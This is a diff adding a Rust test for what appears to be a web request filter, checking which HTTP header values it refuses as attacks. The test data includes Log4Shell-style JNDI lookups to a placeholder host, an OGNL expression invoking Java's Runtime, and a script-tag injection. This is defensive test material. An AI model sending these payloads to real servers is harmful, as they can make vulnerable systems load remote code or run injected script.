@@ -149,3 +149,26 @@ fn the_form_of_a_body_hides_no_attack() {
         assert_eq!(decide(&book, Hook::Body, harmless).0, "pass");
     });
 }
+
+#[test]
+fn a_header_that_browsers_write_is_judged_where_it_holds_what_they_never_write() {
+    let book = guard();
+    on_worker(move || {
+        for (name, value, refused) in [
+            ("accept-language", "${jndi:ldap://x.example/a}", true),
+            ("content-type", "%{(#_='multipart/form-data').(#x=@java.lang.Runtime@getRuntime())}", true),
+            ("sec-foo", "<script>alert(1)</script>", true),
+            ("referer", "http://${jndi:ldap://x.example/a}", true),
+            ("referer", "x://${jndi:dns:x.example}", true),
+            ("referer", "https://shop.example/search?q=red+shoes&page=2", false),
+            ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", false),
+            ("sec-ch-ua", "\"Chromium\";v=\"126\", \"Not(A:Brand\";v=\"8\"", false),
+            ("authorization", "Basic ${jndi:ldap://x.example/a}", false),
+        ] {
+            let mut facts = plain_facts("GET", "/");
+            facts.headers.insert(name, value.parse().unwrap());
+            let decided = decide(&book, Hook::Request, facts).0;
+            assert_eq!(decided.starts_with("403 attack."), refused, "{name}: {value}: {decided}");
+        }
+    });
+}
